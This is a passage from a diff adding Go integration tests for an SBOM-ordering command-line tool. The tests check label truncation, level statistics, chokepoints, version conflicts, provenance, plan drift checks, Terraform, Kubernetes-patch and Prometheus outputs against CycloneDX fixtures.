+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-g", "--describe", "--describe-max", "8")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	if !strings.Contains(stdout, "      Another…\n") {
+		t.Errorf("Expected a truncated description, got:\n%s", stdout)
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	if !strings.Contains(stdout, `"description": "Third component"`) {
+		t.Errorf("Expected descriptions in the JSON plan without --describe, got:\n%s", stdout)
+	}
+}
+
+func TestIntegrationMaxLabelLen(t *testing.T) {
+	// Two refs of 1,500 characters differing only in their last one, as a
+	// generated purl with many qualifiers might
+	long := "pkg:generic/app@1.0?" + strings.Repeat("q", 1478)
+	doc := `{
+  "bomFormat": "CycloneDX",
+  "specVersion": "1.6",
+  "components": [
+    {"bom-ref": "` + long + `a", "name": "App", "version": "1.0"},
+    {"bom-ref": "` + long + `b", "name": "App", "version": "1.0"},
+    {"bom-ref": "db", "name": "Database", "version": "15.0"}
+  ],
+  "dependencies": [
+    {"ref": "` + long + `a", "dependsOn": ["db"]},
+    {"ref": "` + long + `b", "dependsOn": ["db"]}
+  ]
+}`
+	sbomPath := filepath.Join(t.TempDir(), "long.json")
+	if err := os.WriteFile(sbomPath, []byte(doc), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	for _, format := range []string{"order", "dot", "mermaid"} {
+		stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", format)
+		if err != nil {
+			t.Fatalf("Command failed with -o %s: %v\nStderr: %s", format, err, stderr)
+		}
+		for _, line := range strings.Split(stdout, "\n") {
+			if utf8.RuneCountInString(line) > 200 {
+				t.Errorf("Expected -o %s to shorten long refs, got a line of %d characters", format, utf8.RuneCountInString(line))
+				break
+			}
+		}
+		// Mermaid IDs replace the ellipsis along with the other punctuation
+		if format != "mermaid" && strings.Count(stdout, "…") < 2 {
+			t.Errorf("Expected both refs shortened with -o %s, got:\n%s", format, stdout)
+		}
+		if format == "mermaid" && strings.Count(stdout, `["App<br/>1.0"]`) != 2 {
+			t.Errorf("Expected the shortened refs to stay distinct, got:\n%s", stdout)
+		}
+	}
+
+	stdout, _, err := runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	if !strings.Contains(stdout, `"`+long+`a"`) || !strings.Contains(stdout, `"`+long+`b"`) {
+		t.Error("Expected the JSON plan to keep the full refs")
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "--max-label-len", "0")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	if !strings.Contains(stdout, long+"a") {
+		t.Error("Expected --max-label-len 0 to keep the full refs")
+	}
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--max-label-len", "8"); err == nil || !strings.Contains(stderr, "at least 16") {
+		t.Errorf("Expected a too small --max-label-len to be rejected, got: %v\n%s", err, stderr)
+	}
+}
+
+func TestIntegrationLevelStats(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "--stats-by-ecosystem")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"  Step  Total  Components  Services  docker  npm  none\n",
+		"  2     8      5           3         1       0    7\n",
+		"  6     2      2           0         0       1    1\n",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in the statistics, got:\n%s", want, stdout)
+		}
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-s", "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	var result struct {
+		Stats struct {
+			Components int `json:"components"`
+			Levels     []struct {
+				Step       int `json:"step"`
+				Total      int `json:"total"`
+				Components int `json:"components"`
+				Services   int `json:"services"`
+			} `json:"levels"`
+		} `json:"stats"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+		t.Fatalf("Expected -s -o json to stay valid JSON: %v\nOutput: %s", err, stdout)
+	}
+	var widths []string
+	for _, level := range result.Stats.Levels {
+		widths = append(widths, fmt.Sprintf("%d:%d+%d", level.Step, level.Components, level.Services))
+	}
+	if got, want := strings.Join(widths, " "), "1:6+0 2:5+3 3:0+3 4:0+3 5:0+1 6:2+0"; got != want {
+		t.Errorf("Expected per-step widths %s, got %s", want, got)
+	}
+}
+
+func TestIntegrationChokepoints(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "--chokepoints", "2")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if !regexp.MustCompile(`Chokepoints:\n +Rank +Component +Ref +Step +Blocked\n +1 +PostgreSQL Primary +postgres-primary +1 +10 \(43%\)\n +2 +Redis Master +redis-master +1 +10 \(43%\)\n`).MatchString(stdout) {
+		t.Errorf("Expected the two top chokepoints, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-s", "--chokepoints", "3", "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	var result struct {
+		Stats struct {
+			Chokepoints []struct {
+				Ref     string `json:"ref"`
+				Step    int    `json:"step"`
+				Blocked int    `json:"blocked"`
+			} `json:"chokepoints"`
+		} `json:"stats"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+		t.Fatalf("Invalid JSON: %v\nOutput: %s", err, stdout)
+	}
+	var got []string
+	for _, c := range result.Stats.Chokepoints {
+		got = append(got, fmt.Sprintf("%s:%d:%d", c.Ref, c.Step, c.Blocked))
+	}
+	if want := "postgres-primary:1:10 redis-master:1:10 zookeeper:1:10"; strings.Join(got, " ") != want {
+		t.Errorf("Expected %s, got %v", want, got)
+	}
+
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--chokepoints", "-1"); err == nil || !strings.Contains(stderr, "--chokepoints must not be negative") {
+		t.Errorf("Expected a negative count to be rejected, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationStatisticsServices(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "services-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Total Components: 2\nTotal Services: 3\n") {
+		t.Errorf("Expected components and services counted apart, got:\n%s", stdout)
+	}
+	if strings.Contains(stdout, "Nested Components") || strings.Contains(stdout, "Duplicate Services") {
+		t.Errorf("Expected no nested or duplicate lines, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-s", "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	var result struct {
+		Stats struct {
+			Components        int `json:"components"`
+			Services          int `json:"services"`
+			Nested            int `json:"nested"`
+			DuplicateServices int `json:"duplicateServices"`
+		} `json:"stats"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+		t.Fatalf("Invalid JSON: %v\nOutput: %s", err, stdout)
+	}
+	if s := result.Stats; s.Components != 2 || s.Services != 3 || s.Nested != 0 || s.DuplicateServices != 0 {
+		t.Errorf("Expected 2 components and 3 services, got %+v", s)
+	}
+
+	// A service declared twice, and one sharing a component's ref, each
+	// plan as one node
+	dupPath := filepath.Join(t.TempDir(), "duplicates.json")
+	doc := `{"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1,
+		"components": [
+			{"bom-ref": "app", "name": "app", "type": "application",
+				"components": [{"bom-ref": "lib", "name": "lib", "type": "library"}]},
+			{"bom-ref": "cache", "name": "cache", "type": "application"}],
+		"services": [
+			{"bom-ref": "queue", "name": "queue"},
+			{"bom-ref": "queue", "name": "queue"},
+			{"bom-ref": "cache", "name": "cache"},
+			{"bom-ref": "auth", "name": "auth"}]}`
+	if err := os.WriteFile(dupPath, []byte(doc), 0o644); err != nil {
+		t.Fatalf("Failed to write SBOM: %v", err)
+	}
+	cacheDir := t.TempDir()
+	for _, run := range []string{"fresh", "cached"} {
+		stdout, stderr, err = runBomDagger(t, "-i", dupPath, "-s", "--cache-dir", cacheDir)
+		if err != nil {
+			t.Fatalf("%s: command failed: %v\nStderr: %s", run, err, stderr)
+		}
+		for _, want := range []string{
+			"Total Components: 2\n",
+			"Total Services: 3\n",
+			"Nested Components: 1 (declared inside other components, 1 top-level)\n",
+			"Duplicate Services: 2 ",
+		} {
+			if !strings.Contains(stdout, want) {
+				t.Errorf("%s: expected %q in the statistics, got:\n%s", run, want, stdout)
+			}
+		}
+	}
+}
+
+func TestIntegrationStatisticsJSONCounts(t *testing.T) {
+	sboms := filepath.Join("..", "..", "testdata", "sboms")
+	tests := []struct {
+		name  string
+		args  []string
+		text  string
+		field string
+		want  int
+	}{
+		{"excluded", []string{"-i", filepath.Join(sboms, "excluded-chain-1.6.json")}, "Excluded Components: 3", "excluded", 3},
+		{"synthetic", []string{"-i", filepath.Join(sboms, "missing-ref-1.6.json"), "--synthesize-missing"}, "Synthetic Components: 1", "synthetic", 1},
+		{"pruned", []string{"-i", filepath.Join(sboms, "prune-leaves-1.6.json"), "--prune-leaves-of-type", "library,file,operating-system"}, "Pruned Components: 15", "pruned", 15},
+		{"version conflicts", []string{"-i", filepath.Join(sboms, "version-conflict-1.6.json")}, "Version Conflicts: 2", "versionConflicts", 2},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			stdout, stderr, err := runBomDagger(t, append(tt.args, "-s")...)
+			if err != nil {
+				t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+			}
+			if !strings.Contains(stdout, tt.text) {
+				t.Errorf("Expected %q in the statistics, got:\n%s", tt.text, stdout)
+			}
+
+			stdout, stderr, err = runBomDagger(t, append(tt.args, "-s", "-o", "json")...)
+			if err != nil {
+				t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+			}
+			var result struct {
+				Stats map[string]any `json:"stats"`
+			}
+			if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+				t.Fatalf("Invalid JSON: %v\nOutput: %s", err, stdout)
+			}
+			if got, _ := result.Stats[tt.field].(float64); int(got) != tt.want {
+				t.Errorf("Expected stats.%s = %d, got %v", tt.field, tt.want, result.Stats[tt.field])
+			}
+		})
+	}
+}
+
+func TestIntegrationVersionConflicts(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "version-conflict-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s")
+	if err != nil {
+		t.Fatalf("Expected conflicts to be warnings by default: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stderr, "version conflict: pkg:docker/library/postgres has 2 versions: 15 (ref postgres-primary), 16 (ref postgres-reporting)") {
+		t.Errorf("Expected a warning for postgres, got: %s", stderr)
+	}
+	if !strings.Contains(stdout, "Version Conflicts: 2") {
+		t.Errorf("Expected the conflicts in the statistics, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--fail-on-conflict")
+	if err == nil {
+		t.Fatal("Expected --fail-on-conflict to fail")
+	}
+	if !strings.Contains(stderr, "found 2 version conflicts (--fail-on-conflict)") {
+		t.Errorf("Expected the conflict count in the error, got: %s", stderr)
+	}
+
+	simple := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+	if _, stderr, err := runBomDagger(t, "-i", simple, "--fail-on-conflict"); err != nil || strings.Contains(stderr, "version conflict") {
+		t.Errorf("Expected no conflicts in simple-1.6.json: %v\nStderr: %s", err, stderr)
+	}
+}
+
+func TestIntegrationOutputList(t *testing.T) {
+	stdout, stderr, err := runBomDagger(t, "-o", "list")
+	if err != nil {
+		t.Fatalf("Expected -o list to work without an input: %v\nStderr: %s", err, stderr)
+	}
+	for _, mode := range []string{"order", "groups", "dot", "json", "markdown", "k8s-patch"} {
+		if !strings.Contains(stdout, "\n"+mode+" ") && !strings.HasPrefix(stdout, mode+" ") {
+			t.Errorf("Expected -o list to describe %s, got:\n%s", mode, stdout)
+		}
+	}
+
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "yaml")
+	if err == nil {
+		t.Fatal("Expected an unknown output mode to fail")
+	}
+	if !strings.Contains(stderr, `unknown output mode "yaml"`) || !strings.Contains(stderr, "available: order, groups") {
+		t.Errorf("Expected the error to list the available modes, got: %s", stderr)
+	}
+}
+
+func TestIntegrationPriority(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "priority-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	migrate := strings.Index(stdout, "Schema Migration")
+	api := strings.Index(stdout, "API")
+	admin := strings.Index(stdout, "Admin Console")
+	if migrate < 0 || api < 0 || admin < 0 || !(migrate < api && api < admin) {
+		t.Errorf("Expected Schema Migration, then API, then Admin Console within step 2:\n%s", stdout)
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	var result struct {
+		Steps []struct {
+			Components []struct {
+				Ref      string `json:"ref"`
+				Priority int    `json:"priority"`
+			} `json:"components"`
+		} `json:"steps"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+		t.Fatalf("Failed to parse JSON: %v", err)
+	}
+	if len(result.Steps) != 2 || len(result.Steps[1].Components) != 4 {
+		t.Fatalf("Expected priority to leave step membership alone, got %+v", result.Steps)
+	}
+	var refs []string
+	for _, component := range result.Steps[1].Components {
+		refs = append(refs, component.Ref)
+	}
+	if got := strings.Join(refs, ","); got != "migrate,api,worker,admin" {
+		t.Errorf("Expected step 2 ordered migrate,api,worker,admin, got %s", got)
+	}
+}
+
+func TestIntegrationShuffleSeed(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	// stepRefs returns the refs of each step of a JSON plan, and the sorted
+	// refs of each step
+	stepRefs := func(stdout string) (order, members []string) {
+		t.Helper()
+		var result struct {
+			Steps []struct {
+				Components []struct {
+					BOMRef string `json:"ref"`
+				} `json:"components"`
+			} `json:"steps"`
+		}
+		if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+			t.Fatalf("Invalid JSON: %v\n%s", err, stdout)
+		}
+		for _, step := range result.Steps {
+			var refs []string
+			for _, c := range step.Components {
+				refs = append(refs, c.BOMRef)
+			}
+			order = append(order, strings.Join(refs, " "))
+			sort.Strings(refs)
+			members = append(members, strings.Join(refs, " "))
+		}
+		return order, members
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	sorted, want := stepRefs(stdout)
+
+	orders := make(map[string]bool)
+	for _, seed := range []string{"1", "2", "3"} {
+		stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "json", "--shuffle-seed", seed)
+		if err != nil {
+			t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+		}
+		order, members := stepRefs(stdout)
+		if !reflect.DeepEqual(members, want) {
+			t.Errorf("Seed %s: expected the steps to keep their components, got %v", seed, members)
+		}
+		again, _, _ := runBomDagger(t, "-i", sbomPath, "-o", "json", "--shuffle-seed", seed)
+		if again != stdout {
+			t.Errorf("Seed %s: expected the same plan on every run", seed)
+		}
+		orders[strings.Join(order, "\n")] = true
+	}
+	if len(orders) < 2 || orders[strings.Join(sorted, "\n")] {
+		t.Errorf("Expected the seeds to give orders differing from the sorted one, got %v", orders)
+	}
+
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--shuffle-seed", "1", "--sort-within-group", "type"); err == nil || !strings.Contains(stderr, "mutually exclusive") {
+		t.Errorf("Expected --shuffle-seed and --sort-within-group to conflict, got: %v\n%s", err, stderr)
+	}
+}
+
+func TestIntegrationStrictParse(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "malformed", "mistyped-dependson-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-g")
+	if err != nil {
+		t.Fatalf("Expected lenient parsing to succeed: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Group 2") || !strings.Contains(stderr, "[W016_MISTYPED_FIELD]") {
+		t.Errorf("Expected the string dependsOn to order api after db with a warning\nStdout: %s\nStderr: %s", stdout, stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--strict-parse")
+	if err == nil {
+		t.Fatal("Expected --strict-parse to reject the document")
+	}
+	if !strings.Contains(stderr, "$.dependencies[0].dependsOn: must be an array, got string") {
+		t.Errorf("Expected the JSON path of the problem, got: %s", stderr)
+	}
+}
+
+func TestIntegrationExcludedScope(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "excluded-chain-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Excluded Components: 3") {
+		t.Errorf("Expected the excluded count in the stats, got:\n%s", stdout)
+	}
+	if strings.Contains(stdout, "Gateway Mock") {
+		t.Errorf("Expected excluded components to be left out, got:\n%s", stdout)
+	}
+	if strings.Index(stdout, "Auth Service") > strings.Index(stdout, "Application") {
+		t.Errorf("Expected auth before the application, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--include-excluded")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Gateway Mock") {
+		t.Errorf("Expected --include-excluded to keep excluded components, got:\n%s", stdout)
+	}
+}
+
+func TestIntegrationProvenance(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "dedupe-shop-1.6.json")
+	env := []string{"SOURCE_DATE_EPOCH=1700000000"}
+
+	first, stderr, err := runBomDaggerEnv(t, env, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	second, _, err := runBomDaggerEnv(t, env, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if first != second {
+		t.Errorf("Expected identical output under SOURCE_DATE_EPOCH\nFirst:\n%s\nSecond:\n%s", first, second)
+	}
+
+	var doc struct {
+		Provenance struct {
+			Tool        string
+			GeneratedAt string
+			Inputs      []struct{ Path, SerialNumber string }
+		}
+	}
+	if err := json.Unmarshal([]byte(first), &doc); err != nil {
+		t.Fatalf("Invalid JSON: %v", err)
+	}
+	if doc.Provenance.GeneratedAt != "2023-11-14T22:13:20Z" || doc.Provenance.Tool != "bom-dagger" {
+		t.Errorf("Unexpected provenance %+v", doc.Provenance)
+	}
+	if len(doc.Provenance.Inputs) != 1 || doc.Provenance.Inputs[0].SerialNumber != "urn:uuid:3e8b2c3a-0000-4000-8000-000000000021" ||
+		doc.Provenance.Inputs[0].Path != sbomPath {
+		t.Errorf("Unexpected provenance inputs %+v", doc.Provenance.Inputs)
+	}
+
+	markdown, _, err := runBomDaggerEnv(t, env, "-i", sbomPath, "-o", "markdown", "--timestamp", "2024-06-01T00:00:00Z")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if !strings.Contains(markdown, "at 2024-06-01T00:00:00Z") || !strings.Contains(markdown, "by example image-scanner 1.0.0") {
+		t.Errorf("Expected --timestamp to win in the Markdown provenance, got:\n%s", markdown)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "json", "--timestamp", "noon")
+	if err == nil || !strings.Contains(stderr, `invalid timestamp "noon"`) {
+		t.Errorf("Expected an invalid timestamp error, got: %v\n%s", err, stderr)
+	}
+}
+
+func TestIntegrationCheckPlan(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "services-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, `"schemaVersion": 1`) {
+		t.Errorf("Expected versioned JSON plan, got: %s", stdout)
+	}
+
+	dir := t.TempDir()
+	planPath := filepath.Join(dir, "plan.json")
+	if err := os.WriteFile(planPath, []byte(stdout), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--check-plan", planPath)
+	if err != nil {
+		t.Fatalf("Expected matching plan to pass: %v\nStdout: %s\nStderr: %s", err, stdout, stderr)
+	}
+	if !strings.Contains(stdout, "Plan matches") {
+		t.Errorf("Expected match message, got: %s", stdout)
+	}
+
+	driftedPath := filepath.Join(dir, "drifted.json")
+	drifted := strings.Replace(string(mustReadFile(t, planPath)), `"version": "15.0"`, `"version": "14.0"`, 1)
+	if err := os.WriteFile(driftedPath, []byte(drifted), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "--check-plan", driftedPath)
+	if err == nil {
+		t.Error("Expected non-zero exit for drifted plan")
+	}
+	if !strings.Contains(stdout, "database: version 14.0 -> 15.0") {
+		t.Errorf("Expected version drift report, got: %s", stdout)
+	}
+}
+
+func mustReadFile(t *testing.T, path string) []byte {
+	t.Helper()
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return data
+}
+
+// readGolden reads testdata/golden/<name> with LF line endings, whatever
+// core.autocrlf made of them on checkout
+func readGolden(t *testing.T, name string) string {
+	t.Helper()
+	data := mustReadFile(t, filepath.Join("..", "..", "testdata", "golden", name))
+	return strings.ReplaceAll(string(data), "\r\n", "\n")
+}
+
+func TestIntegrationTerraform(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "terraform-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "terraform")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+
+	if stdout != readGolden(t, "terraform-1.6.tf") {
+		t.Errorf("Terraform output does not match golden file\nGot:\n%s", stdout)
+	}
+	if !strings.Contains(stderr, "Skipped 1 components") {
+		t.Errorf("Expected skipped summary on stderr, got: %s", stderr)
+	}
+}
+
+func TestIntegrationImages(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "images-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "images")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	want := "# Group 1\nregistry.internal:5000/library/postgres:16.2\n" +
+		"# Group 2\nghcr.io/acme/api:3.1.0@sha256:9f86d081884c7d65\n" +
+		"# Group 3\nghcr.io/acme/web:2.0.0\n" +
+		"# 1 component without an image omitted\n"
+	if stdout != want {
+		t.Errorf("Expected images per group:\n%s\nGot:\n%s", want, stdout)
+	}
+	if stderr != "" {
+		t.Errorf("Expected components without an image to be omitted silently, got: %s", stderr)
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-o", "images", "--flat")
+	if err != nil || strings.Contains(stdout, "# Group") || !strings.HasPrefix(stdout, "registry.internal:5000/library/postgres:16.2\n") {
+		t.Errorf("Expected a flat list, got %v:\n%s", err, stdout)
+	}
+
+	_, stderr, _ = runBomDagger(t, "-i", sbomPath, "--flat")
+	if !strings.Contains(stderr, "--flat only applies to images output") {
+		t.Errorf("Expected --flat without -o images to be rejected, got: %s", stderr)
+	}
+}
+
+func TestIntegrationK8sPatch(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "k8s-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "k8s-patch", "--k8s-annotation", "argocd.argoproj.io/sync-wave")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+
+	var patches []struct {
+		Target struct{ Kind, Name string }
+		Patch  string
+	}
+	if err := json.Unmarshal([]byte(stdout), &patches); err != nil {
+		t.Fatalf("Output is not valid JSON: %v\n%s", err, stdout)
+	}
+	if len(patches) != 4 || patches[0].Target.Name != "postgres" {
+		t.Errorf("Expected 4 patches starting with postgres, got %+v", patches)
+	}
+	if !strings.Contains(patches[0].Patch, `"path":"/metadata/annotations/argocd.argoproj.io~1sync-wave","value":"1"`) {
+		t.Errorf("Unexpected patch for postgres: %s", patches[0].Patch)
+	}
+	if !strings.Contains(stderr, "Skipped 2 components") || !strings.Contains(stderr, "client-lib, migrations") {
+		t.Errorf("Expected skipped components on stderr, got: %s", stderr)
+	}
+}
+
+func TestIntegrationLinkType(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "links-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "markdown")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if want := "| Checkout <https://wiki.example.com/runbooks/checkout> <https://wiki.example.com/checkout/README> | 3.1.0 |"; !strings.Contains(stdout, want) {
+		t.Errorf("Expected both documentation links, got:\n%s", stdout)
+	}
+	if strings.Contains(stdout, "git.example.com") || strings.Contains(stdout, "shop.example.com") {
+		t.Errorf("Expected only documentation references to be linked, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "dot", "--link-type", "vcs")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, `URL="https://git.example.com/shop/checkout"`) || strings.Count(stdout, "URL=") != 1 {
+		t.Errorf("Expected only the vcs reference to be linked, got:\n%s", stdout)
+	}
+}
+
+func TestIntegrationPublisherAndReleaseNotes(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "release-notes-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--describe")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "  - Payments (ref: payments)\n      published by: Acme Payments\n") ||
+		strings.Count(stdout, "published by") != 2 {
+		t.Errorf("Expected publishers only under the components declaring one, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "markdown")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "- Storefront: Spring sale banners (minor)") || strings.Count(stdout, "Release notes:") != 2 {
+		t.Errorf("Expected release notes for steps 2 and 3 only, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "json", "--validate-self")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, `"publisher": "Acme Retail"`) || !strings.Contains(stdout, `"title": "Refunds API v2"`) {
+		t.Errorf("Expected publisher and release notes in the JSON plan, got:\n%s", stdout)
+	}
+}
+
+func TestIntegrationPrometheus(t *testing.T) {
+	sboms := filepath.Join("..", "..", "testdata", "sboms")
+	outFile := filepath.Join(t.TempDir(), "bom.prom")
+
+	_, stderr, err := runBomDagger(t, "-i", filepath.Join(sboms, "missing-ref-1.6.json"), "-f", outFile)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	out := string(mustReadFile(t, outFile))
+	for _, want := range []string{
+		"# TYPE bom_dagger_components_total gauge\n",
+		`bom_dagger_components_total{serial_number="urn:uuid:3e8b2c3a-0000-4000-8000-000000000014",spec_version="1.6"} 3`,
+		`bom_dagger_dangling_refs_total{serial_number="urn:uuid:3e8b2c3a-0000-4000-8000-000000000014",spec_version="1.6"} 1`,
+		`bom_dagger_cycles_detected{serial_number="urn:uuid:3e8b2c3a-0000-4000-8000-000000000014",spec_version="1.6"} 0`,
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("Expected %q in the metrics, got:\n%s", want, out)
+		}
+	}
+
+	// A cycle is reported rather than fatal
+	stdout, stderr, err := runBomDagger(t, "-i", filepath.Join(sboms, "cycle-1.6.json"), "-o", "prometheus")
+	if err != nil {
+		t.Fatalf("Expected metrics for a cyclic graph, got: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, `bom_dagger_cycles_detected{`) || !strings.Contains(stdout, `"} 1`+"\n") {
+		t.Errorf("Expected cycles_detected 1, got:\n%s", stdout)
+	}
+	if !strings.Contains(stderr, "contains cycles") {
+		t.Errorf("Expected a warning about the cycle, got: %s", stderr)
+	}
+}
+
+func TestIntegrationFromGraph(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+	graphFile := filepath.Join(t.TempDir(), "microservices.graph")
+
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "graph", "-f", graphFile); err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
